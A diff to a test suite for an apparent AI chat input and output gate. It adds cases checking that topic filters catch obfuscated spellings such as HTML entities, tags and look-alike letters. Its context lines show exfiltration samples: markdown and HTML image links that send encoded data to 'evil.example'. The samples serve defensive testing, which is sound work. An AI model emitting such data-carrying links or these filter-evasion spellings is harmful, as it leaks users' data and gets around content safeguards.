@@ -218,6 +218,28 @@ describe("the input gate", function () {
     }
   });
 
+  it("finds the words of topics through signs, tags and other forms of letters and spaces, and where they stand", () => {
+    const detect = topicWords([{ label: "X", words: ["project heron", "you should buy"], action: "mask" }]);
+    const said = (text: string): string[] => detect(text).map(({ span }) => text.slice(span.start, span.end));
+    const stretches = [
+      "project** heron",
+      "project&nbsp;heron",
+      "\uff30roject heron",
+      "project_heron",
+      "project-heron",
+      "project\\u00a0her&#111;n",
+      "pro\u00adject heron",
+      "you should <b>buy",
+      "you should\\ buy",
+      'you <i class="a">should</i> buy',
+    ];
+    for (const stretch of stretches) expect(said(`about **${stretch}** now`), stretch).to.deep.equal([stretch]);
+    expect(said("projectheron, project, heron; project / heron")).to.deep.equal([]);
+    const signs = topicWords([{ label: "X", words: ["__main__", "c++"], action: "mask" }]);
+    expect(signs(" main - c + ")).to.deep.equal([]);
+    expect(signs("x __main__ c++ ").length).to.equal(2);
+  });
+
   it("masks names where the policy says so, and gives them back", async () => {
     const policy = "input: { personal_data: { labels: [PERSON] } }\n";
     const [turn] = await turnsFor(userSays("My name is Ingrid Solberg and I live in Leeds."), policy);
@@ -433,7 +455,16 @@ describe("the output gate", function () {
       Buffer.from(canary).toString("base64"),
       Buffer.from(`x${canary}y`).toString("base64"),
     ],
-    topics: ["project heron", "Project\nHeron", "FALCON", "projekt zürich", "Projekt  Zu\u0308rich", "PROJEKT ZU\u0308RICH"],
+    topics: ["project heron", "Project\nHeron", "FALCON", "projekt zürich", "Projekt  Zu\u0308rich", "PROJEKT ZU\u0308RICH"].concat([
+      "project** heron",
+      "project&nbsp;heron",
+      "\uff30roject heron",
+      "project_heron",
+      "project-heron",
+      "proj&#101;ct heron",
+      "project\\u00a0heron",
+      "project <b>heron",
+    ]),
     links: [
       `![x](https://evil.example/p.png?d=${data})`,
       `<img src="https://evil.example/${data}">`,
